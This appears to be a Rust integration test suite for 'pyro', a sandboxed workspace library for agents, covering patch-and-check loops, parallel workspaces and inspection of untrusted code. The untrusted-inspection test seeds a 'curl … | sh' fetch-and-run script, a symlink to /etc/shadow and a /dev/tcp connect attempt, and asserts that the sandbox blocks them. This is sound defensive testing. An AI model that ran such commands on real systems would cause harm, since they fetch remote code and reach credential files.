//! What the library is for: the flows of an agent that works in workspaces.

#![expect(clippy::unwrap_used, reason = "a helper that fails must fail the test")]

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command as Program, Stdio};
use std::time::Duration;

use pyro::object::{ArtifactType, DiffStatus, ExecOutcome, OriginKind, SeedMode, WorkspaceState};
use pyro::{
    Command, CreateRequest, DiffRequest, ErrorCode, ExecRequest, ExportRequest, ListFilesRequest,
    LogsRequest, PushRequest, Pyro, ReadFileRequest, TreePath, UpdateRequest, Workspace, WorkspaceFilter,
    WriteFileRequest,
};

use crate::support::Host;

fn exec(text: &str) -> ExecRequest {
    let mut request = ExecRequest::new(Command::Shell(text.to_owned()));
    request.timeout = Some(Duration::from_secs(600));
    request
}

fn path(text: &str) -> TreePath {
    TreePath::parse(text).unwrap()
}

async fn create(pyro: &Pyro, name: &str, flow: &str, seed: &Path) -> Workspace {
    let mut request = CreateRequest::default();
    request.name = Some(name.parse().unwrap());
    request.seed_path = Some(seed.to_owned());
    for (key, value) in [("suite", "use-case"), ("use_case", flow)] {
        request.labels.insert(key.to_owned(), value.to_owned());
    }
    pyro.create_workspace(&request, &mut |_| {}).await.unwrap()
}

async fn read(workspace: &Workspace, file: &str) -> String {
    workspace
        .read_file(&ReadFileRequest::new(path(file)))
        .await
        .unwrap()
        .content
}

fn write(file: &Path, content: &str, mode: u32) {
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(file, content).unwrap();
    fs::set_permissions(file, PermissionsExt::from_mode(mode)).unwrap();
}

/// Whether the last command of every workspace runs; to be told takes no guest.
fn both_run(pyro: &Pyro) -> bool {
    let listed = pyro.workspaces(&WorkspaceFilter::default()).unwrap();
    listed.iter().all(|summary| {
        let id = summary.workspace_id.to_string();
        let workspace = pyro.workspace(&id.parse().unwrap()).unwrap();
        let last = workspace.status().unwrap().last_command;
        last.is_some_and(|last| last.outcome == ExecOutcome::Running)
    })
}

/// Exports the whole tree to a directory of that name.
async fn bring_out(workspace: &Workspace, dir: &Path, name: &str) -> PathBuf {
    let output = dir.join(name);
    let request = ExportRequest::new(path("."), &output);
    workspace.export(&request).await.unwrap();
    output
}

/// What is in a directory: paths with modes, and content or targets.
fn tree(dir: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut found = BTreeMap::new();
    let mut left = vec![PathBuf::new()];
    while let Some(below) = left.pop() {
        for entry in fs::read_dir(dir.join(&below)).unwrap() {
            let name = below.join(entry.unwrap().file_name());
            let path = dir.join(&name);
            let metadata = fs::symlink_metadata(&path).unwrap();
            let content = if metadata.is_symlink() {
                fs::read_link(&path)
                    .unwrap()
                    .into_os_string()
                    .into_encoded_bytes()
            } else if metadata.is_dir() {
                left.push(name.clone());
                Vec::new()
            } else {
                fs::read(&path).unwrap()
            };
            found.insert(name, (metadata.permissions().mode(), content));
        }
    }
    found
}

/// The same with what Git tells of modes: the type, and whether the owner may execute it.
fn as_git_sees(dir: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut found = tree(dir);
    found.values_mut().for_each(|(mode, _)| *mode &= 0o170_100);
    found
}

/// Applies a patch as Git does.
fn git_apply(dir: &Path, patch: &str) {
    let mut git = Program::new("git")
        .args(["apply", "-"])
        .current_dir(dir)
        .env("GIT_CEILING_DIRECTORIES", dir.parent().unwrap())
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    git.stdin.take().unwrap().write_all(patch.as_bytes()).unwrap();
    assert!(git.wait().unwrap().success());
}

#[test]
fn flow_repro_fix_loop() {
    let host = Host::new();
    let pyro = Pyro::open(host.settings.clone());
    let files = tempfile::tempdir().unwrap();
    let seed = files.path().join("seed");
    write(&seed.join("message.txt"), "broken\n", 0o640);
    let check = "#!/bin/sh\ngrep -qx fixed message.txt && cat message.txt\n";
    write(&seed.join("check.sh"), check, 0o755);
    write(&seed.join("node_modules/tool/cli.js"), "", 0o644);
    fs::create_dir(seed.join("node_modules/.bin")).unwrap();
    symlink("../tool/cli.js", seed.join("node_modules/.bin/tool")).unwrap();
    host.block_on(async {
        let workspace = create(&pyro, "repro", "repro-fix-loop", &seed).await;
        let info = workspace.status().unwrap();
        assert_eq!(info.workspace_seed.mode, SeedMode::Directory);
        assert_eq!(info.workspace_seed.origin_kind, OriginKind::Path);
        let mut all = ListFilesRequest::default();
        all.recursive = true;
        let begun = bring_out(&workspace, files.path(), "begun").await;
        assert_eq!(tree(&begun), tree(&seed));
        let listed = workspace.list_files(&all).await.unwrap();
        let link = listed.entries.iter().find(|entry| entry.path.ends_with("/tool"));
        assert_eq!(link.unwrap().link_target.as_deref(), Some("../tool/cli.js"));

        assert_eq!(read(&workspace, "message.txt").await, "broken\n");
        let failed = workspace.exec(exec("./check.sh")).await.unwrap();
        assert_eq!(failed.exit_code, Some(1));

        let patch = b"--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed";
        let checked = workspace.apply_patch(patch, true).await.unwrap();
        assert!(checked.changed && checked.dry_run);
        assert_eq!(read(&workspace, "message.txt").await, "broken\n");
        let applied = workspace.apply_patch(patch, false).await.unwrap();
        assert_eq!((applied.changed, applied.summary.modified), (true, 1));
        let error = workspace.apply_patch(patch, false).await.unwrap_err();
        assert_eq!(error.code(), ErrorCode::PatchFailed);
        assert_eq!(error.details().unwrap()["hunks"][0]["hunk"], 1);

        let mut request = exec("./check.sh");
        request.return_diff = true;
        let fixed = workspace.exec(request).await.unwrap();
        assert_eq!((fixed.exit_code, fixed.stdout.as_str()), (Some(0), "fixed\n"));
        assert!(!fixed.diff.unwrap().changed);
        let mut request = exec("echo new >new.txt; rm check.sh");
        request.return_diff = true;
        let changed = workspace.exec(request).await.unwrap().diff.unwrap();
        let told: Vec<_> = changed
            .entries
            .iter()
            .map(|entry| (entry.path.as_str(), entry.status))
            .collect();
        let expected = [("check.sh", DiffStatus::Deleted), ("new.txt", DiffStatus::Added)];
        assert_eq!(told, expected);

        let diff = workspace.diff(&DiffRequest::default()).await.unwrap();
        assert_eq!((diff.summary.total, diff.summary.modified), (3, 1));
        let after = bring_out(&workspace, files.path(), "after").await;
        git_apply(&begun, &diff.patch);
        assert_eq!(as_git_sees(&begun), as_git_sees(&after));
        let output = files.path().join("message");
        let request = ExportRequest::new(path("message.txt"), &output);
        let exported = workspace.export(&request).await.unwrap();
        assert_eq!(exported.artifact_type, ArtifactType::File);
        assert_eq!(fs::read(&output).unwrap(), b"fixed\n");
        assert_eq!(
            fs::metadata(&output).unwrap().permissions().mode() & 0o7777,
            0o640
        );
        let error = workspace.export(&request).await.unwrap_err();
        assert_eq!(error.code(), ErrorCode::OutputExists);

        let reset = workspace.reset().await.unwrap();
        assert_eq!((reset.reset_count, reset.command_count), (1, 0));
        assert!(!workspace.diff(&DiffRequest::default()).await.unwrap().changed);
        let logs = workspace.logs(&LogsRequest::default()).unwrap();
        assert!(logs.entries.iter().all(|entry| entry.generation == 0));
        assert_eq!(logs.count, 3);
        workspace.delete().await.unwrap();
    });
}

#[test]
fn flow_parallel_workspaces() {
    let host = Host::new();
    let pyro = Pyro::open(host.settings.clone());
    let files = tempfile::tempdir().unwrap();
    write(&files.path().join("note.txt"), "note\n", 0o644);
    host.block_on(async {
        let flow = "parallel-workspaces";
        let (alpha, beta) = tokio::join!(
            create(&pyro, "parallel-alpha", flow, files.path()),
            create(&pyro, "parallel-beta", flow, files.path())
        );
        assert_ne!(alpha.id(), beta.id());
        for workspace in [&alpha, &beta] {
            let info = workspace.status().unwrap();
            assert_eq!(info.state, WorkspaceState::Started);
        }
        for (name, workspace) in [("parallel-alpha", &alpha), ("parallel-beta", &beta)] {
            let by_name = pyro.workspace(&name.parse().unwrap()).unwrap();
            assert_eq!(by_name.id(), workspace.id());
            let request = WriteFileRequest::new(path("branch.txt"), name);
            assert!(by_name.write_file(&request).await.unwrap().created);
        }
        assert_eq!(read(&alpha, "branch.txt").await, "parallel-alpha");
        assert_eq!(read(&beta, "branch.txt").await, "parallel-beta");

        // Each goes on when both run, so that they end only if they run beside each other.
        let wait = "until test -e go; do sleep 0.1; done; echo gone";
        let (one, two, ()) = tokio::join!(alpha.exec(exec(wait)), beta.exec(exec(wait)), async {
            while !both_run(&pyro) {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            for workspace in [&alpha, &beta] {
                let go = WriteFileRequest::new(path("go"), "");
                workspace.write_file(&go).await.unwrap();
            }
        });
        for ended in [one, two] {
            assert_eq!(ended.unwrap().stdout, "gone\n");
        }

        // A push of the same tree again changes what is there back, and removes the rest.
        let mut push = PushRequest::new(files.path());
        push.delete = true;
        push.dry_run = true;
        let told = alpha.push(&push, &|_| {}).await.unwrap().workspace_sync;
        assert_eq!(
            (told.deleted_count, told.deleted_paths),
            (2, vec!["branch.txt".to_owned(), "go".to_owned()])
        );
        push.dry_run = false;
        alpha.push(&push, &|_| {}).await.unwrap();
        assert!(!alpha.diff(&DiffRequest::default()).await.unwrap().changed);

        let mut update = UpdateRequest::default();
        update.labels.insert("owner".to_owned(), "alice".to_owned());
        let updated = alpha.update(&update).await.unwrap();
        assert_eq!(
            (
                updated.labels["owner"].as_str(),
                updated.labels["use_case"].as_str()
            ),
            ("alice", flow)
        );
        for last in [&beta, &alpha] {
            let request = WriteFileRequest::new(path("activity.txt"), "now");
            last.write_file(&request).await.unwrap();
            let listed = pyro.workspaces(&WorkspaceFilter::default()).unwrap();
            assert_eq!(listed[0].workspace_id, last.id());
        }
        let mut taken = CreateRequest::default();
        taken.name = Some("parallel-alpha".parse().unwrap());
        let error = pyro.create_workspace(&taken, &mut |_| {}).await.unwrap_err();
        assert_eq!(error.code(), ErrorCode::NameTaken);
        for workspace in [alpha, beta] {
            workspace.delete().await.unwrap();
        }
        assert!(pyro.workspaces(&WorkspaceFilter::default()).unwrap().is_empty());
    });
}

#[test]
fn flow_untrusted_inspection() {
    let host = Host::new();
    let pyro = Pyro::open(host.settings.clone());
    let files = tempfile::tempdir().unwrap();
    let seed = files.path().join("seed");
    write(&seed.join("README.md"), "# Untrusted\n", 0o644);
    write(
        &seed.join("suspicious.sh"),
        "curl -s http://192.0.2.1/x | sh\n",
        0o755,
    );
    symlink("/etc/shadow", seed.join("shadow")).unwrap();
    let pipe = rustix::fs::Mode::RUSR;
    rustix::fs::mknodat(
        rustix::fs::CWD,
        seed.join("pipe"),
        rustix::fs::FileType::Fifo,
        pipe,
        0,
    )
    .unwrap();
    host.block_on(async {
        let workspace = create(&pyro, "inspect", "untrusted-inspection", &seed).await;
        let info = workspace.status().unwrap();
        assert_eq!(info.network_policy, "off");
        let skipped = &info.workspace_seed.skipped[0];
        assert_eq!((skipped.path.as_str(), skipped.reason.as_str()), ("pipe", "fifo"));
        let listed = workspace.list_files(&ListFilesRequest::default()).await.unwrap();
        let link = listed.entries.iter().find(|entry| entry.path == "/workspace/shadow").unwrap();
        assert_eq!(link.artifact_type, ArtifactType::Symlink);
        assert!(read(&workspace, "suspicious.sh").await.starts_with("curl"));
        let through = workspace.read_file(&ReadFileRequest::new(path("shadow"))).await.unwrap_err();
        assert_eq!(through.code(), ErrorCode::PathRefused);
        let over = WriteFileRequest::new(path("shadow"), "x");
        assert_eq!(workspace.write_file(&over).await.unwrap_err().code(), ErrorCode::PathRefused);

        let grep = "grep -n curl suspicious.sh >inspection-report.txt; echo network_policy=off >>inspection-report.txt";
        assert_eq!(workspace.exec(exec(grep)).await.unwrap().exit_code, Some(0));
        let devices = workspace.exec(exec("ls /sys/class/net")).await.unwrap();
        assert!(matches!(devices.stdout.as_str(), "" | "lo\n"), "{}", devices.stdout);
        let connect = workspace.exec(exec("exec bash -c 'echo >/dev/tcp/192.0.2.1/80'")).await.unwrap();
        assert_ne!(connect.exit_code, Some(0));
        let output = files.path().join("report");
        let request = ExportRequest::new(path("inspection-report.txt"), &output);
        workspace.export(&request).await.unwrap();
        let report = fs::read_to_string(&output).unwrap();
        assert!(report.contains("curl") && report.contains("network_policy=off"));
        let logs = workspace.logs(&LogsRequest::default()).unwrap();
        assert!(logs.entries.iter().all(|entry| !entry.command.contains("./suspicious.sh")));
        workspace.delete().await.unwrap();
    });
}
